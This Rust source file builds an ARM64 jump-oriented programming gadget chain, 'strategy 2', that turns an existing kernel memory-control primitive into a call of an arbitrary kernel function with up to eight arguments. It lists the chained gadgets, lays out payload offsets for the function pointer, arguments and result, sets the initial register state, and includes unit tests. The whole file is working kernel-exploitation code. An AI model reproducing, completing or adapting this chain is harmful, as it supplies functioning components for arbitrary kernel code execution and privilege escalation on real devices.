//! Call strategy 2: a register-only variant of strategy 1 that threads a
//! different tail of the gadget chain (`x21`/`x15`/`x17` instead of
//! `x22`/`x24`/`x28`), useful on images where strategy 1's specific tail
//! gadgets don't resolve but this one's do.
//!
//! Grounded byte-for-byte on `call_strategy_2.c`'s `build()`.

use super::gadgets::{
    LDP_X2_X1_X1__BR_X2, LDP_X8_X1_X20_10__BLR_X8, MOV_X0_X3__BLR_X8, MOV_X0_X5__BLR_X8, MOV_X10_X4__BR_X8,
    MOV_X11_X24__BR_X8, MOV_X11_X9__BR_X8, MOV_X12_X2__BR_X3, MOV_X15_X5__BR_X11, MOV_X17_X15__BR_X8,
    MOV_X1_X9__MOV_X2_X10__BLR_X11, MOV_X20_X0__BLR_X8, MOV_X21_X5__BLR_X8, MOV_X22_X6__BLR_X8, MOV_X24_X4__BR_X8,
    MOV_X28_X2__BLR_X8, MOV_X2_X30__BR_X12, MOV_X30_X22__BR_X17, MOV_X30_X28__BR_X8, MOV_X7_X9__BLR_X11,
    MOV_X8_X4__BR_X5, MOV_X9_X0__BR_X11, MOV_X9_X10__BR_X8, RET, STR_X0_X20__LDR_X8_X21__LDR_X8_X8_28__MOV_X0_X21__BLR_X8,
    LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8, ADD_X20_X20_34__BR_X8,
};
use super::{write_dispatch_chain, write_u64, CallStrategy, InitialState};
use crate::gadget::GadgetTable;

const VALUE_STACK_OFFSET: usize = 0;
const RESULT_OFFSET: usize = 0x9c;
const STORE_RESUME_OFFSET: usize = 0;
const JOP_STACK_OFFSET: usize = 0xe0;
const LOAD_ADVANCE: usize = 0x34;
const STORE_RESUME_DELTA: i64 = -0x28;

pub const STRATEGY_2: CallStrategy = CallStrategy {
    name: "strategy2",
    required_gadgets: STRATEGY_2_GADGET_NAMES,
    payload_size: 0x400,
    stack_arg_bytes: 0,
    register_args: 8,
    build,
};

const STRATEGY_2_GADGET_NAMES: &[&str] = &[
    LDP_X2_X1_X1__BR_X2,
    MOV_X12_X2__BR_X3,
    MOV_X2_X30__BR_X12,
    MOV_X8_X4__BR_X5,
    MOV_X20_X0__BLR_X8,
    MOV_X10_X4__BR_X8,
    MOV_X9_X10__BR_X8,
    MOV_X11_X9__BR_X8,
    LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8,
    ADD_X20_X20_34__BR_X8,
    MOV_X22_X6__BLR_X8,
    MOV_X24_X4__BR_X8,
    MOV_X0_X3__BLR_X8,
    MOV_X0_X5__BLR_X8,
    MOV_X9_X0__BR_X11,
    MOV_X7_X9__BLR_X11,
    MOV_X11_X24__BR_X8,
    MOV_X1_X9__MOV_X2_X10__BLR_X11,
    LDP_X8_X1_X20_10__BLR_X8,
    RET,
    MOV_X28_X2__BLR_X8,
    MOV_X21_X5__BLR_X8,
    MOV_X15_X5__BR_X11,
    MOV_X17_X15__BR_X8,
    MOV_X30_X22__BR_X17,
    STR_X0_X20__LDR_X8_X21__LDR_X8_X8_28__MOV_X0_X21__BLR_X8,
    MOV_X30_X28__BR_X8,
];

fn build(func: u64, args: &[u64], kernel_payload: u64, payload: &mut [u8], gadgets: &GadgetTable) -> (InitialState, u64) {
    let addr = |name: &str| gadgets.address_of(name).expect("required gadget resolved");

    let store_resume = kernel_payload + STORE_RESUME_OFFSET as u64;
    write_u64(payload, STORE_RESUME_OFFSET, (store_resume as i64 + 8 + STORE_RESUME_DELTA) as u64);
    write_u64(payload, STORE_RESUME_OFFSET + 8, addr(LDP_X2_X1_X1__BR_X2));

    let call_chain: &[&str] = &[
        MOV_X20_X0__BLR_X8,
        MOV_X10_X4__BR_X8,
        MOV_X9_X10__BR_X8,
        MOV_X11_X9__BR_X8,
        LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8,
        ADD_X20_X20_34__BR_X8,
        MOV_X21_X5__BLR_X8,
        MOV_X22_X6__BLR_X8,
        MOV_X24_X4__BR_X8,
        LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8,
        ADD_X20_X20_34__BR_X8,
        MOV_X15_X5__BR_X11,
        MOV_X17_X15__BR_X8,
        MOV_X0_X3__BLR_X8,
        MOV_X9_X0__BR_X11,
        MOV_X7_X9__BLR_X11,
        LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8,
        ADD_X20_X20_34__BR_X8,
        MOV_X0_X3__BLR_X8,
        MOV_X9_X0__BR_X11,
        MOV_X10_X4__BR_X8,
        MOV_X0_X5__BLR_X8,
        LDP_X3_X4_X20_20__LDP_X5_X6_X20_30__BLR_X8,
        MOV_X11_X24__BR_X8,
        MOV_X1_X9__MOV_X2_X10__BLR_X11,
    ];
    let return_chain: &[&str] = &[STR_X0_X20__LDR_X8_X21__LDR_X8_X8_28__MOV_X0_X21__BLR_X8, MOV_X30_X28__BR_X8, RET];

    let kernel_jop_stack = kernel_payload + JOP_STACK_OFFSET as u64;
    let (next_offset, jop_return_chain) = write_dispatch_chain(payload, JOP_STACK_OFFSET, kernel_jop_stack, gadgets, call_chain);
    write_dispatch_chain(payload, next_offset, jop_return_chain, gadgets, return_chain);

    let block = |n: usize| VALUE_STACK_OFFSET + n * LOAD_ADVANCE;
    write_u64(payload, block(0) + 0x28, addr(MOV_X30_X22__BR_X17));
    write_u64(payload, block(0) + 0x30, store_resume);
    write_u64(payload, block(0) + 0x38, addr(LDP_X8_X1_X20_10__BLR_X8));

    write_u64(payload, block(1) + 0x20, args[7]);
    write_u64(payload, block(1) + 0x30, func);

    write_u64(payload, block(2) + 0x20, args[1]);
    write_u64(payload, block(2) + 0x28, args[2]);
    write_u64(payload, block(2) + 0x30, args[0]);

    write_u64(payload, block(3) + 0x20, args[3]);
    write_u64(payload, block(3) + 0x28, args[4]);
    write_u64(payload, block(3) + 0x30, args[5]);
    write_u64(payload, block(3) + 0x38, args[6]);

    write_u64(payload, block(3) + 0x10, addr(LDP_X2_X1_X1__BR_X2));
    write_u64(payload, block(3) + 0x18, jop_return_chain);

    let initial_state = InitialState {
        pc: addr(MOV_X12_X2__BR_X3),
        x: [
            kernel_payload + VALUE_STACK_OFFSET as u64,
            kernel_jop_stack,
            addr(MOV_X8_X4__BR_X5),
            addr(MOV_X2_X30__BR_X12),
            addr(LDP_X2_X1_X1__BR_X2),
            addr(MOV_X28_X2__BLR_X8),
            0,
        ],
    };
    (initial_state, kernel_payload + RESULT_OFFSET as u64)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::gadget::{ExecutableImage, GadgetPattern, Segment, PROT_EXECUTE, PROT_READ};
    use std::sync::atomic::AtomicBool;

    fn resolved_gadgets() -> GadgetTable {
        let mut patterns: Vec<GadgetPattern> = super::super::gadgets::STRATEGY_1_GADGETS.to_vec();
        patterns.extend_from_slice(super::super::gadgets::STRATEGY_2_GADGETS);
        let mut code = Vec::new();
        for p in &patterns {
            for &w in p.words {
                code.extend_from_slice(&w.to_le_bytes());
            }
        }
        struct OneSegment<'a>(Segment<'a>);
        impl<'a> ExecutableImage for OneSegment<'a> {
            fn segments(&self) -> &[Segment<'_>] {
                std::slice::from_ref(&self.0)
            }
        }
        let image = OneSegment(Segment { data: &code, vmaddr: 0x8000, initprot: PROT_READ | PROT_EXECUTE, maxprot: PROT_READ | PROT_EXECUTE });
        let mut table = GadgetTable::new(&patterns);
        table.locate(&image, 0, &AtomicBool::new(false)).unwrap();
        table
    }

    #[test]
    fn payload_places_function_at_its_block_and_result_offset_matches_strategy_1() {
        let gadgets = resolved_gadgets();
        let func = 0xdead_beef_0000_0001u64;
        let args = [1u64, 2, 3, 4, 5, 6, 7, 8];
        let kernel_payload = 0xa000_0000u64;
        let mut payload = [0u8; 0x400];
        let (initial_state, result_address) = build(func, &args, kernel_payload, &mut payload, &gadgets);

        assert_eq!(u64::from_le_bytes(payload[0x64..0x6c].try_into().unwrap()), func);
        assert_eq!(initial_state.pc, gadgets.address_of(MOV_X12_X2__BR_X3).unwrap());
        assert_eq!(initial_state.x[5], gadgets.address_of(MOV_X28_X2__BLR_X8).unwrap());
        assert_eq!(result_address, kernel_payload + RESULT_OFFSET as u64);
    }

    #[test]
    fn strategy_is_available_once_all_gadgets_are_resolved() {
        assert!(STRATEGY_2.is_available(&resolved_gadgets()));
    }
}
